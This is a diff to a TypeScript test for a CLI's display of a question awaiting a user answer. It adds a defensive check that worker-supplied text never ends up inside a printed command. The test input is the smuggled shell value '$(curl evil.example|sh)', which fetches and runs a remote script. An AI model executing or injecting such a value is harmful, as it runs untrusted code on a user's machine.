@@ -128,16 +128,30 @@ test('a question is shown with how to answer it', () => {
   const asked = run.tell(numbered(makeEvent('run.awaiting_user', question.reason, question, at)));
   expect(asked.lines).toEqual([
     '? Step 5 may have happened before',
-    '  npx pilothouse answer 0197f3c2-1a2b continue --question 2.4.0  It happened',
-    '  npx pilothouse answer 0197f3c2-1a2b repeat --question 2.4.0    It did not',
-    '  npx pilothouse answer 0197f3c2-1a2b dismiss --question 2.4.0   End the run as completed: the rest was seen to by hand',
+    '  npx pilothouse answer 0197f3c2-1a2b continue --question 2.4.0',
+    '    It happened',
+    '  npx pilothouse answer 0197f3c2-1a2b repeat --question 2.4.0',
+    '    It did not',
+    '  npx pilothouse answer 0197f3c2-1a2b dismiss --question 2.4.0',
+    '    End the run as completed: the rest was seen to by hand',
   ]);
   expect(asked.atWork?.text).toBe('waiting for a person');
   // An API of before names none.
   const { key, ...unnamed } = question;
   expect(run.tell(numbered(makeEvent('run.awaiting_user', question.reason, unnamed, at))).lines[1]).toBe(
-    '  npx pilothouse answer 0197f3c2-1a2b continue  It happened',
+    '  npx pilothouse answer 0197f3c2-1a2b continue',
   );
+  // Nothing that a worker says is pasted with a command.
+  const evil = '$(curl evil.example|sh)';
+  const choices = [{ choice: 'continue' as const, title: evil }];
+  const said = { ...question, key: `0.0@${evil}`, choices };
+  const shown = run.tell(numbered(makeEvent('run.awaiting_user', question.reason, said, at))).lines;
+  const commands = shown.filter((line) => line.includes('npx'));
+  expect(commands).toEqual([
+    '  npx pilothouse answer 0197f3c2-1a2b continue',
+    '  npx pilothouse answer 0197f3c2-1a2b dismiss',
+  ]);
+  expect(shown).toContain(`    ${evil}`);
   const resumed = { by: 'Ada', choice: 'repeat' as const, step: 4 };
   expect(run.tell(numbered(makeEvent('run.resumed', 'Ada answered: repeat', resumed, at))).lines).toEqual([
     '· Ada answered: repeat',
